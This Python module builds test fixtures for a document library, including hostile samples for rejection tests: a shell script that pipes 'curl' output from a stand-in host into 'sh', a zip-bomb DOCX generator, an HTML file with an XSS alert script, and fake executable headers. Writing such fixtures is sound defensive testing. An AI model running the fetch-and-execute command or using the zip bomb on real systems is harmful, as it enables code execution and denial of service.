"""Sample files for the document library's tests, built in memory: real ones and hostile ones."""

import io
import zipfile

import docx
from PIL import Image
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas

CHINESE_BODY = "中国科学院与国家知识产权局同意加强专利信息资源共享，互惠互利，共同发展。"
ENGLISH_BODY = "The parties agree to share patent information and scientific literature."
CHINESE_TABLE_CELL = "国际专利分类号"

# One of reportlab's built-in Adobe CID fonts: nothing to embed, and pypdf maps its codes back to Unicode.
_CJK_FONT = "STSong-Light"
pdfmetrics.registerFont(UnicodeCIDFont(_CJK_FONT))


def _pdf(lines: list[str], font: str) -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, invariant=True)  # invariant: the same bytes on every run
    page.setFont(font, 14)
    for number, line in enumerate(lines):
        page.drawString(72, 760 - 24 * number, line)
    page.showPage()
    page.save()
    return buffer.getvalue()


def chinese_pdf() -> bytes:
    # drawString does not wrap: two lines, broken after a comma so no word is cut.
    first, rest = CHINESE_BODY.split("，", 1)
    return _pdf([first + "，", rest], _CJK_FONT)


def english_pdf() -> bytes:
    return _pdf([ENGLISH_BODY], "Helvetica")


def garbage_pdf() -> bytes:
    """Starts like a PDF, parses as nothing."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\nthis is not an object\n"


def many_pages_pdf(pages: int, text: str = "patent information ") -> bytes:
    """A minimal PDF whose every page shows `text`, written by hand: reportlab takes seconds for 10,000 pages."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (5 + n) for n in range(pages)) + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 3 0 R >> >> >>"
    )
    objects += [page] * pages
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def windows_executable() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 48
        + b"This program cannot be run in DOS mode."
    )


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def chinese_docx() -> bytes:
    document = docx.Document()
    document.add_heading("合作协议", level=1)
    document.add_paragraph(CHINESE_BODY)
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = CHINESE_TABLE_CELL
    table.cell(0, 1).text = "G06F 16/33"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def not_a_zip_docx() -> bytes:
    """What an old binary .doc renamed to .docx looks like: an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def ooxml(main_part: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A ZIP shaped like an Office file: content types and the given main part (and any extra members)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr(main_part, b'<?xml version="1.0" encoding="UTF-8"?><root/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_without_content_types() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", b"<root/>")
    return buffer.getvalue()


def zip_bomb_docx(unpacked_bytes: int) -> bytes:
    """A valid-looking DOCX with one member of zeros that inflates to `unpacked_bytes` (about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?><root/>')
        with archive.open("word/media/image1.bin", "w") as member:
            block = b"\x00" * 1024 * 1024
            for start in range(0, unpacked_bytes, len(block)):
                member.write(block[: unpacked_bytes - start])
    return buffer.getvalue()


def png(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


def html_as_text() -> bytes:
    return b'<!DOCTYPE html><html><body><script>alert("xss")</script><p>patent information</p></body></html>\n'


def gb18030_text() -> bytes:
    return CHINESE_BODY.encode("gb18030")


def utf8_bom_text() -> bytes:
    return "\ufeff".encode() + CHINESE_BODY.encode()
